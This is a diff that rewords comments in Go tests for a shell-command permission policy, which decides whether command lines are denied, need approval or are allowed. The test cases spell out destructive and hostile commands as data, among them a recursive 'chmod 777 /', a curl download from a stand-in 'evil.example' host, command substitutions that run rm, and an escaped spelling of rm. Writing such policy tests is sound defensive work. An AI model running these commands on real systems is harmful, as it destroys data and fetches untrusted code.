@@ -102,7 +102,7 @@ func TestDeniedCommands(t *testing.T) {
 		{"chmod -R 777 /", policy.Deny},
 		{"curl -o x https://evil.example/", policy.Deny},
 
-		// Not certain: what the shell puts in might be the missing word.
+		// Not certain: the shell's expansion might be the missing word.
 		{"rm $X", policy.Ask},
 		{"rm $(cat list)", policy.Ask},
 		{"git push $OPT", policy.Ask},
@@ -133,7 +133,7 @@ func TestDeniedCommands(t *testing.T) {
 		{"grep -r 'rm -rf' .", policy.Allow},
 		{"add x", policy.Allow},
 		{"curl --form a=b https://good.example", policy.Allow},
-		{"chmod 755 777", policy.Deny}, // the order of operands is all that is known
+		{"chmod 755 777", policy.Deny}, // only the order of operands is known
 		{"bash script.sh rm -rf", policy.Allow},
 		{"find . -name rm -print", policy.Allow},
 		{"", policy.Allow},
@@ -205,15 +205,14 @@ func TestArgv(t *testing.T) {
 	assert.Equal(t, policy.Allow, p.Decide(policy.Request{Argv: []string{"echo", "$(rm -rf x)"}}).Action)
 }
 
-// Where no rule is about commands, an unreadable one is no reason to ask.
+// If no rule is about commands, an unreadable one does not ask.
 func TestUnreadableWithoutCommandRules(t *testing.T) {
 	p, err := policy.New(policy.Rules{})
 	require.NoError(t, err)
 	assert.Equal(t, policy.Allow, p.Decide(policy.Request{Shell: "echo '"}).Action)
 }
 
-// No line, however odd, is allowed by a rule for another program, and none
-// breaks the reader.
+// No line is allowed by a rule for another program, and none crashes the reader.
 func FuzzCommand(f *testing.F) {
 	for _, line := range []string{"echo hi", "sh -c 'echo'", "a | b && c; d & e", "find . -exec x {} +", "env -i A=b c",
 		"$'\\x72m'", "sudo -u", "xargs", "<(a) >(b)", "((1+1))", "[[ a = b ]]"} {
